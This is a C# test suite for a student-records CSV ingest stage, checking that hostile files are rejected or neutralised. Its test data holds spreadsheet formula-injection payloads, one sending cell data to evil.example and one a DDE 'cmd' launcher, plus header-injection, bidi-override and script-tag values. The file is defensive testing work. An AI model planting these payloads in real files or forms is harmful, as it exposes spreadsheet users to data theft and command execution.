using System.Text;
using System.Text.Json;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Time.Testing;
using Pipeline.Core.Catalog;
using Pipeline.Core.Contracts;
using Pipeline.Core.Stages.Ingest;
using Pipeline.Core.Storage;
using Pipeline.Core.Tests.TestData;

namespace Pipeline.Core.Tests.Stages.Ingest;

/// <summary>Hostile SIS files (issue #9): each gives a clear error, and loses none of the rows it could accept.</summary>
public sealed class HostileSisFileTests
{
    private const string Header = "learner_id,email,given_name,family_name,activity_id,completed_at,outcome,grade,score";
    private static readonly HashSet<string> KnownActivities = ["CS101"];

    private readonly InMemoryBlobStore _blobs = new();
    private readonly RecordingMessageSender _sender = new();

    private static IReadOnlyList<SisColumnMap> ShippedMaps()
    {
        var result = SisMapLoader.Load(Path.Combine(RepositoryPaths.Samples, "catalog", "sis-maps"));
        Assert.Empty(result.Errors);
        return result.Maps;
    }

    private IngestSisFileHandler CreateSut() => new(
        _blobs,
        _sender,
        new SisIngestOptions { Maps = ShippedMaps(), IsKnownActivity = KnownActivities.Contains },
        new FakeTimeProvider(new DateTimeOffset(2026, 1, 10, 8, 0, 0, TimeSpan.Zero)),
        NullLogger<IngestSisFileHandler>.Instance);

    private List<string> SentLearners() =>
        [.. _sender.Sent.Select(m => JsonSerializer.Deserialize(m.Body, ContractsJsonContext.Default.RecordCompletion)!.Completion.LearnerId)];

    private JsonElement Report(string blobName) =>
        JsonDocument.Parse(_blobs.Text(Containers.SisReports, blobName + ".report.json")!).RootElement;

    [Fact]
    public async Task Formula_cells_are_neutralised_in_the_rejected_csv_byte_for_byte_and_kept_verbatim_in_the_json_report()
    {
        var csv = Header + "\r\n"
            + "S1,ada@example.edu,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",+cmd|' /C calc'!A0,CS101,someday,passed,-1+1,\r\n"
            + "S2,alan@example.edu,\"\t=1+2\",\"\r=3+4\",CS101,someday,passed,@SUM(A1:A9),\r\n"
            + "S3,grace@example.edu,Grace,Hopper,CS101,2025-12-10,passed,A,95\r\n";
        _blobs.Put(Containers.SisInbox, "formula.csv", csv);

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "formula.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(3, 1, 2, 0, 0, 0), report.Counts);
        Assert.Equal(["S3"], SentLearners());
        var expected = "\uFEFF" + Header + ",error\r\n"
            + "S1,ada@example.edu,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\"'+cmd|' /C calc'!A0\",CS101,someday,passed,\"'-1+1\",,"
            + "\"row 2: column \"\"completed_at\"\": expected a date like 2026-12-14T14:30:00-05:00 or 2026-12-14T14:30:00 or 2026-12-14, found \"\"someday\"\"\"\r\n"
            + "S2,alan@example.edu,\"'\t=1+2\",\"'\r=3+4\",CS101,someday,passed,\"'@SUM(A1:A9)\",,"
            + "\"row 3: column \"\"completed_at\"\": expected a date like 2026-12-14T14:30:00-05:00 or 2026-12-14T14:30:00 or 2026-12-14, found \"\"someday\"\"\"\r\n";
        Assert.Equal(expected, Encoding.UTF8.GetString(_blobs.Bytes(Containers.SisReports, report.RejectedRowsBlob!)!));
        // The JSON report is data, not a spreadsheet: values stay as found, JSON-escaped.
        var found = Report("formula.csv").GetProperty("rejections").EnumerateArray().Select(r => r.GetProperty("found").GetString()).ToList();
        Assert.Equal(["someday", "someday"], found);
        Assert.DoesNotContain("\t=1+2", _blobs.Text(Containers.SisReports, "formula.csv.report.json")!, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_stray_latin1_byte_in_a_utf8_file_rejects_that_row_naming_the_column_and_keeps_the_others()
    {
        var bytes = Encoding.UTF8.GetBytes(Header + "\n")
            .Concat(Encoding.Latin1.GetBytes("S1,rene@example.eu,Ren\u00e9,Descartes,CS101,2025-12-10,passed,A,95\n"))
            .Concat(Encoding.UTF8.GetBytes("S2,rene2@example.eu,Ren\u00e9,Descartes,CS101,2025-12-10,passed,A,95\n"))
            .ToArray();
        _blobs.Put(Containers.SisInbox, "mixed.csv", bytes);

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "mixed.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(2, 1, 1, 0, 0, 0), report.Counts);
        Assert.Equal(["S2"], SentLearners());
        var rejection = Assert.Single(Report("mixed.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal(
            "sis-inbox/mixed.csv row 2, column \"given_name\": expected UTF-8 text (a byte that is not UTF-8 is shown as \uFFFD: save the file as UTF-8, or give its map \"encoding\": \"latin1\"), found \"Ren\uFFFD\"",
            rejection.GetProperty("message").GetString());
    }

    [Fact]
    public async Task A_10_MB_cell_rejects_its_row_with_its_size_and_the_rows_around_it_are_accepted()
    {
        var huge = new string('A', 10 * 1024 * 1024);
        var row3 = $"S2,alan@example.edu,\"{huge}\",Turing,CS101,2025-12-10,passed,A,95\n";
        var csv = Header + "\n"
            + "S1,ada@example.edu,Ada,Lovelace,CS101,2025-12-10,passed,A,95\n"
            + row3
            + "S3,grace@example.edu,Grace,Hopper,CS101,2025-12-10,passed,A,95\n";
        _blobs.Put(Containers.SisInbox, "huge.csv", csv);

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "huge.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(3, 2, 1, 0, 0, 0), report.Counts);
        Assert.Equal(["S1", "S3"], SentLearners());
        var rejection = Assert.Single(Report("huge.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal(3, rejection.GetProperty("row").GetInt32());
        Assert.Equal(
            $"sis-inbox/huge.csv row 3: expected a row of at most 1048576 bytes (1 MiB); this one was not read (a huge cell, or a quote never closed?), found \"{row3.Length} bytes starting S2,alan@example.edu,\"AAAAAAAAAAAAAAAAAAA\"",
            rejection.GetProperty("message").GetString());
        Assert.EndsWith(
            $",,,,,,,,,\"row 3: expected a row of at most 1048576 bytes (1 MiB); this one was not read (a huge cell, or a quote never closed?), found \"\"{row3.Length} bytes starting S2,alan@example.edu,\"\"AAAAAAAAAAAAAAAAAAA\"\"\"\r\n",
            _blobs.Text(Containers.SisReports, report.RejectedRowsBlob!), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("\"Ada\r\nBcc: everyone@example.edu\"", "given_name", "text without control characters (U+000D at character 4)", "Ada<U+000D><U+000A>Bcc: everyone@example.edu")]
    [InlineData("\"Ada\nLovelace\"", "given_name", "text without control characters (U+000A at character 4)", "Ada<U+000A>Lovelace")]
    [InlineData("Ada\u0000", "given_name", "text without control characters (U+0000 at character 4)", "Ada<U+0000>")]
    [InlineData("Ada\u001B[31m", "given_name", "text without control characters (U+001B at character 4)", "Ada<U+001B>[31m")]
    [InlineData("\u202Eecalevol", "given_name", "text without bidirectional overrides or isolates (U+202E at character 1)", "<U+202E>ecalevol")]
    [InlineData("Ada\u2066x\u2069", "given_name", "text without bidirectional overrides or isolates (U+2066 at character 4)", "Ada<U+2066>x<U+2069>")]
    [InlineData("Ada\u2028Lovelace", "given_name", "text without line or paragraph separators (U+2028 at character 4)", "Ada<U+2028>Lovelace")]
    public async Task A_name_with_a_control_character_or_a_bidi_override_rejects_its_row_naming_the_column_and_the_character(
        string given, string column, string expected, string found)
    {
        var csv = Header + "\n"
            + $"S1,ada@example.edu,{given},Lovelace,CS101,2025-12-10,passed,A,95\n"
            + "S2,grace@example.edu,Grace,Hopper,CS101,2025-12-10,passed,A,95\n";
        _blobs.Put(Containers.SisInbox, "control.csv", csv);

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "control.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(2, 1, 1, 0, 0, 0), report.Counts);
        Assert.Equal(["S2"], SentLearners());
        var rejection = Assert.Single(Report("control.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal((2, column, expected, found),
            (rejection.GetProperty("row").GetInt32(), rejection.GetProperty("column").GetString(), rejection.GetProperty("expected").GetString(), rejection.GetProperty("found").GetString()));
        Assert.Contains("row 2: column \"\"given_name\"\": expected " + expected, _blobs.Text(Containers.SisReports, report.RejectedRowsBlob!), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Names_ids_and_grades_over_their_bounds_reject_the_row_with_the_length_found()
    {
        var csv = Header + "\n"
            + $"S1,ada@example.edu,{new string('a', 10_000)},Lovelace,CS101,2025-12-10,passed,A,95\n"
            + $"S2,alan@example.edu,Alan,{new string('t', TextFields.MaxNameLength + 1)},CS101,2025-12-10,passed,A,95\n"
            + $"{new string('9', TextFields.MaxIdLength + 1)},grace@example.edu,Grace,Hopper,CS101,2025-12-10,passed,A,95\n"
            + $"S4,kathy@example.edu,Katherine,Johnson,CS101,2025-12-10,passed,{new string('A', TextFields.MaxGradeLength + 1)},95\n"
            + $"S5,mary@example.edu,{new string('m', TextFields.MaxNameLength)},Jackson,CS101,2025-12-10,passed,A,95\n";
        _blobs.Put(Containers.SisInbox, "long.csv", csv);

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "long.csv", CancellationToken.None);

        Assert.Equal(["S5"], SentLearners());
        var rejections = Report("long.csv").GetProperty("rejections").EnumerateArray()
            .Select(r => (r.GetProperty("row").GetInt32(), r.GetProperty("column").GetString(), r.GetProperty("expected").GetString()))
            .ToList();
        Assert.Equal(
        [
            (2, "given_name", "at most 200 characters (10000 found)"),
            (3, "family_name", "at most 200 characters (201 found)"),
            (4, "learner_id", "at most 256 characters (257 found)"),
            (5, "grade", "at most 64 characters (65 found)"),
        ], rejections);
        Assert.EndsWith("… (10000 characters)", Report("long.csv").GetProperty("rejections")[0].GetProperty("found").GetString(), StringComparison.Ordinal);
        Assert.Equal(4, report.Counts.Rejected);
    }

    [Fact]
    public async Task Names_are_normalised_to_NFC()
    {
        var csv = Header + "\n" + "S1,zoe@example.edu,Zoe\u0308,Rene\u0301e,CS101,2025-12-10,passed,A,95\n";
        _blobs.Put(Containers.SisInbox, "nfd.csv", csv);

        await CreateSut().HandleAsync(Containers.SisInbox, "nfd.csv", CancellationToken.None);

        var learner = JsonSerializer.Deserialize(Assert.Single(_sender.Sent).Body, ContractsJsonContext.Default.RecordCompletion)!.Learner;
        Assert.Equal(("Zo\u00EB", "Ren\u00E9e"), (learner.GivenName, learner.FamilyName));
    }

    [Theory]
    [InlineData("1234567890123456789012345678901")]
    [InlineData("79228162514264337593543950336")]
    [InlineData("1e29")]
    [InlineData("1e400")]
    [InlineData("-1e400")]
    [InlineData("NaN")]
    [InlineData("Infinity")]
    public async Task A_score_a_decimal_cannot_hold_rejects_its_row_naming_the_score_column(string score)
    {
        var csv = Header + "\n" + $"S1,ada@example.edu,Ada,Lovelace,CS101,2025-12-10,passed,A,{score}\n";
        _blobs.Put(Containers.SisInbox, "score.csv", csv);

        await CreateSut().HandleAsync(Containers.SisInbox, "score.csv", CancellationToken.None);

        Assert.Empty(_sender.Sent);
        var rejection = Assert.Single(Report("score.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal(("score", score), (rejection.GetProperty("column").GetString(), rejection.GetProperty("found").GetString()));
    }

    [Fact]
    public async Task A_huge_cell_spanning_lines_keeps_the_row_numbers_of_the_rows_after_it()
    {
        var lines = string.Join("\n", Enumerable.Repeat(new string('B', 100_000), 30));
        var csv = Header + "\n"
            + $"S1,ada@example.edu,\"{lines}\",\"Love\"\"lace\",CS101,2025-12-10,passed,A,95\n"
            + "S2,alan@example.edu,\"Alan\nMathison\",Turing,CS101,2025-12-10,passed,A,95\n"
            + "S3,grace@example.edu,Grace,Hopper,CS101,2025-12-10,passed,A,95\n";
        _blobs.Put(Containers.SisInbox, "multiline.csv", csv);

        var results = await CreateSut().DryRunAsync(Containers.SisInbox, "multiline.csv", CancellationToken.None).ToListAsync();

        Assert.Equal([2, 32, 34], results.Select(r => r.Row));
        Assert.IsType<SisRowResult.Rejected>(results[0]);
        // A line break inside a name is refused (issue 21): the row is rejected, at its own line number.
        Assert.Equal("given_name", Assert.Single(Assert.IsType<SisRowResult.Rejected>(results[1]).Errors).Column);
        Assert.Equal("sis:sis-inbox/multiline.csv#34", Assert.IsType<SisRowResult.Accepted>(results[2]).Message.CorrelationId);
    }

    [Fact]
    public async Task A_quote_never_closed_costs_the_rest_of_the_file_as_one_rejected_row_not_the_rows_before_it()
    {
        var csv = new StringBuilder(Header + "\n")
            .Append("S1,ada@example.edu,Ada,Lovelace,CS101,2025-12-10,passed,A,95\n")
            .Append("S2,alan@example.edu,\"Alan,Turing,CS101,2025-12-10,passed,A,95\n");
        for (var i = 0; i < 20_000; i++)
        {
            csv.Append(System.Globalization.CultureInfo.InvariantCulture, $"S{i + 3},x{i}@example.edu,Someone,Else,CS101,2025-12-10,passed,A,95\n");
        }
        _blobs.Put(Containers.SisInbox, "unclosed.csv", csv.ToString());

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "unclosed.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(2, 1, 1, 0, 0, 0), report.Counts);
        Assert.Equal(["S1"], SentLearners());
        var rejection = Assert.Single(Report("unclosed.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal(3, rejection.GetProperty("row").GetInt32());
    }

    [Fact]
    public async Task A_header_naming_a_mapped_column_twice_rejects_the_file_naming_both_positions()
    {
        _blobs.Put(Containers.SisInbox, "generic/dup-header.csv",
            "learner_id,email,given_name,family_name,activity_id,completed_at,outcome,grade,score,Email\n"
            + "S1,ada@example.edu,Ada,Lovelace,CS101,2025-12-10,passed,A,95,mallory@example.com\n");

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "generic/dup-header.csv", CancellationToken.None);

        Assert.Equal(IngestOutcome.FileRejected, report.Outcome);
        Assert.Equal(
            "sis-inbox/generic/dup-header.csv: the header names \"email\" 2 times (columns 2 and 10); map \"generic\" reads that column, so which cell holds the value is ambiguous: rename or remove the extra column",
            report.Problem);
        Assert.Empty(_sender.Sent);
        Assert.True(_blobs.Exists(Containers.SisProcessed, "generic/dup-header.csv"));
    }

    [Fact]
    public async Task A_file_without_its_header_row_is_rejected_whole_and_an_empty_file_says_it_is_empty()
    {
        _blobs.Put(Containers.SisInbox, "generic/no-header.csv", "S1,ada@example.edu,Ada,Lovelace,CS101,2025-12-10,passed,A,95\n");
        _blobs.Put(Containers.SisInbox, "empty.csv", "");

        var noHeader = await CreateSut().HandleAsync(Containers.SisInbox, "generic/no-header.csv", CancellationToken.None);
        var empty = await CreateSut().HandleAsync(Containers.SisInbox, "empty.csv", CancellationToken.None);

        Assert.Equal(IngestOutcome.FileRejected, noHeader.Outcome);
        Assert.StartsWith("sis-inbox/generic/no-header.csv: the folder selects map \"generic\", which expects the columns \"learner_id\", \"email\"", noHeader.Problem, StringComparison.Ordinal);
        Assert.Contains("Found the header \"S1\", \"ada@example.edu\"", noHeader.Problem, StringComparison.Ordinal);
        Assert.Equal(IngestOutcome.FileRejected, empty.Outcome);
        Assert.Equal("sis-inbox/empty.csv is empty: expected a header row", empty.Problem);
        Assert.Empty(_sender.Sent);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>@example.edu")]
    [InlineData("\"Ada\" <ada@example.edu>")]
    [InlineData("ada@exam<ple.edu")]
    [InlineData("ada..lovelace@example.edu")]
    public async Task An_email_address_no_mailer_accepts_rejects_its_row_at_ingest_not_its_claim_email_later(string email)
    {
        _blobs.Put(Containers.SisInbox, "email.csv", Header + "\n"
            + $"S1,\"{email.Replace("\"", "\"\"", StringComparison.Ordinal)}\",Ada,Lovelace,CS101,2025-12-10,passed,A,95\n"
            + "S2,o'brien+tag@example.edu,Alan,Turing,CS101,2025-12-10,passed,A,95\n");

        var report = await CreateSut().HandleAsync(Containers.SisInbox, "email.csv", CancellationToken.None);

        Assert.Equal(new IngestCounts(2, 1, 1, 0, 0, 0), report.Counts);
        Assert.Equal(["S2"], SentLearners());
        var rejection = Assert.Single(Report("email.csv").GetProperty("rejections").EnumerateArray());
        Assert.Equal("email", rejection.GetProperty("column").GetString());
        Assert.Equal(email, rejection.GetProperty("found").GetString());
    }
}
